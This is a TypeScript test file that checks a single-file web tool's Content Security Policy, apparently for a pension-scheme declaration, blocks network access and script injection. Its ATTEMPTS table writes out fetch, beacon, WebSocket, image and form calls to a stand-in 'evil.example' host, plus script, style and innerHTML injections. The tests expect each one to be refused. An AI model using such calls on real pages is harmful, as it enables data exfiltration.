import { readFileSync } from "node:fs";
import { gzipSync } from "node:zlib";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launch } from "../formats/browser.ts";
import { describeWith } from "../peers.ts";
import { openText, PAGE, serving, visit } from "./page.ts";

describe("the file", () => {
  const text = readFileSync(PAGE, "utf8");

  test("is at most 900 kB gzipped", () => {
    expect(gzipSync(text).byteLength).toBeLessThan(900_000);
  });

  test("names no address that it would load, and holds no crown and no font of the government’s", () => {
    expect(text).not.toMatch(/<(?:script|img|iframe|link)\b[^>]*\b(?:src|href)=/i);
    expect(text).not.toMatch(/@import|@font-face|GDS Transport|govuk-crest/);
  });

  test("lets nobody run a text as a program", () => {
    const policy = /Content-Security-Policy" content="([^"]+)"/.exec(text)?.[1] ?? "";
    expect(policy).toMatch(
      /^default-src 'none'; connect-src 'none'; script-src 'sha256-[^']+' 'wasm-unsafe-eval'; style-src 'sha256-[^']+'; /,
    );
    expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
  });
});

describeWith("chromium", "the page’s policy", () => {
  let browser: Browser;
  beforeAll(async () => {
    browser = await launch();
  });
  afterAll(() => browser?.close());

  /** What the page may not do, and how it would. */
  const ATTEMPTS: Readonly<Record<string, string>> = {
    fetch: "fetch('https://evil.example/').then(() => 'done', ({ message }) => message)",
    "an image":
      "new Promise((end) => { const image = new Image(); image.onload = () => end('done'); image.onerror = () => end('refused'); image.src = 'https://evil.example/x.png'; })",
    "a beacon": "navigator.sendBeacon('https://evil.example/', 'x') ? 'sent' : 'refused'",
    "a socket":
      "new Promise((end) => { try { const socket = new WebSocket('wss://evil.example/'); socket.onopen = () => end('done'); socket.onerror = () => end('refused'); } catch { end('refused'); } })",
    "a worker":
      "new Promise((end) => { try { const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); worker.onmessage = () => end('done'); worker.onerror = () => end('refused'); } catch { end('refused'); } })",
    "a style element":
      "(() => { const style = document.createElement('style'); style.textContent = 'h1 { color: rgb(1, 2, 3) }'; document.head.append(style); return getComputedStyle(document.querySelector('h1')).color; })()",
    "a script element":
      "(() => { const script = document.createElement('script'); script.append('window.ran = 1'); document.head.append(script); return String(window.ran); })()",
    "markup in a text":
      "(() => { try { document.querySelector('h1').innerHTML = '<b>x</b>'; return 'done'; } catch ({ name }) { return name; } })()",
    "a form":
      "new Promise((end) => { const form = document.createElement('form'); form.action = 'https://evil.example/'; document.body.append(form); form.submit(); setTimeout(() => end(location.protocol), 100); })",
  };

  test.each(Object.entries(ATTEMPTS))("refuses %s", async (name, attempt) => {
    await visit(browser, async (page, deeds) => {
      const sent: string[] = [];
      page.on("response", (response) => sent.push(response.url()));
      const outcome = await page.evaluate<string>(attempt);
      expect(outcome).not.toBe("done");
      expect(outcome).not.toBe("rgb(1, 2, 3)");
      if (name === "a script element") expect(outcome).toBe("undefined");
      if (name === "a form") expect(outcome).toBe("file:");
      expect(deeds.complaints.join("\n")).toMatch(/Content Security Policy|requires 'Trusted/);
      expect(sent).toEqual([]);
    });
  });

  test("runs no text as a program", async () => {
    await visit(browser, async (page) => {
      // What the debugger itself evaluates is allowed more; a timer of its is not.
      const attempt =
        "new Promise((end) => setTimeout(() => { try { (0, eval)('1'); end('done'); } catch ({ name }) { end(name); } }))";
      expect(await page.evaluate<string>(attempt)).toBe("EvalError");
    });
  });

  test("the log of the network is empty after load, over a whole session", async () => {
    await serving((address) =>
      visit(
        browser,
        async (page, deeds) => {
          await openText(page, "mistakes.roles.yaml", readFileSync("examples/common-mistakes.roles.yaml", "utf8"));
          await page.getByRole("button", { name: "Show the text beside" }).click();
          await page.getByRole("button", { name: /^Remove scheme admin/ }).click();
          for (const button of ["Save the declaration", "Save the report"]) {
            await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: button }).click()]);
          }
          await page.getByRole("button", { name: "Checklist for the portal" }).click();
          await page.getByRole("button", { name: "Back to the declaration" }).click();
          await page.getByRole("button", { name: "Open another file" }).click();
          await openText(page, "people.csv", "Name,Email,Role\nPriya Shah,priya@harbour-pensions.example,PBC\n");
          await page.getByRole("button", { name: "Do not take them" }).click();
          expect(deeds).toEqual({ requests: [], dialogs: [], complaints: [] });
        },
        { address },
      ),
    );
  });

  test("works without a network", async () => {
    await visit(
      browser,
      async (page) => {
        await page.getByRole("button", { name: "Start now" }).click();
        expect(await page.locator("#verdict").innerText()).toMatch(/^Not ready/);
      },
      { offline: true },
    );
  });
});
